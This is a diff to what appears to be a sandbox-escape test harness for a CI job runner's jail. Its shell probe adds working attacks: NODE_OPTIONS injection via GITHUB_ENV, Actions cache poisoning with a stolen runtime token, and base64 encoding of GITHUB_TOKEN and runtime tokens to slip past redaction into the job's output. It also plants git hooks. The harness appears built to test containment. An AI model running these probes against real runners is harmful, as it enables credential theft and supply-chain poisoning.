@@ -45,6 +45,8 @@ export function probeSite(h: TickHarness): ProbeSite {
   const marks = join(base, "marks");
   const tickDir = join(runnerTemp, "loopx-tick");
   for (const d of [runnerTemp, actions, home, marks, tickDir]) mkdirSync(d, { recursive: true });
+  // Whoever escapes (the jail's uid, the runner, root) can mark it: an empty marks/ means none did.
+  chmodSync(marks, 0o1777);
   writeFileSync(join(runnerTemp, "canary-temp"), "temp");
   writeFileSync(join(actions, "canary-action"), "action");
   writeFileSync(join(home, "canary-home"), "home");
@@ -101,16 +103,29 @@ for d in /proc/[0-9]*; do
 done > probes/ps.txt
 sudo -n true >/dev/null 2>&1; echo "$?" > probes/sudo.txt
 ls -A "$runner_temp" > probes/runner-temp.txt 2>&1
+ls -A "$runner_temp/loopx-tick" > probes/tick-dir.txt 2>&1
 ls -A "$home" > probes/home.txt 2>&1
 ls -A "$actions" > probes/actions.txt 2>&1
-echo "EVIL=1" >> "$gh_env" 2>/dev/null
+# GITHUB_ENV reaches every later step: NODE_OPTIONS would run this in the next node process.
+printf 'require("fs").appendFileSync(%s, "uid " + process.getuid() + " ");\\n' "'$marks/node-options'" > .probe-evil.cjs
+{ echo "EVIL=1"; echo "NODE_OPTIONS=--require=$PWD/.probe-evil.cjs"; } >> "$gh_env" 2>/dev/null
 echo "outcome<<EVIL" >> "$gh_output" 2>/dev/null
 echo "/EVIL" >> "$gh_path" 2>/dev/null
 echo "# EVIL" >> "$gh_summary" 2>/dev/null
 token=$(sed -n 's/^ACTIONS_RUNTIME_TOKEN=//p' probes/environ.txt probes/parent-environ.txt | head -n 1)
 echo "\${token:+found}\${token:-none}" | sed 's/^found.*/found/' > probes/runtime-token.txt
+# With a runtime token, seed a cache entry a default-branch job would restore.
+cache_url=$(sed -n 's/^ACTIONS_CACHE_URL=//p' probes/environ.txt probes/parent-environ.txt | head -n 1)
+if [ -n "$token" ] && [ -n "$cache_url" ]; then
+  body='{"key":"deps-probe","version":"v1"}'
+  curl -s -o /dev/null -w '%{http_code}' -X POST -H "authorization: Bearer $token" -H 'content-type: application/json' -d "$body" "\${cache_url}_apis/artifactcache/caches" > probes/cache-save.txt 2>&1
+else
+  echo "no token" > probes/cache-save.txt
+fi
+# Every credential it found, base64-encoded past a plain-text redaction, into the handoff.
+found=$(grep -h -E '^(ACTIONS_RUNTIME_TOKEN|INPUT_TOKEN|GITHUB_TOKEN)=' probes/environ.txt probes/parent-environ.txt | base64 -w0)
 touch probes/ok
-printf '%s' '{"outcome":"progress","handoff":{"done":"probed the runner","next":"-"}}' > "$LOOPX_RESULT"
+printf '{"outcome":"progress","handoff":{"done":"probed the runner %s","next":"-"}}' "$found" > "$LOOPX_RESULT"
 # Hooks for whoever runs git here next: each marks the host (out of the jail's sight).
 mkdir -p .probe-hooks
 for name in clean fsmonitor hooks-path post-commit; do
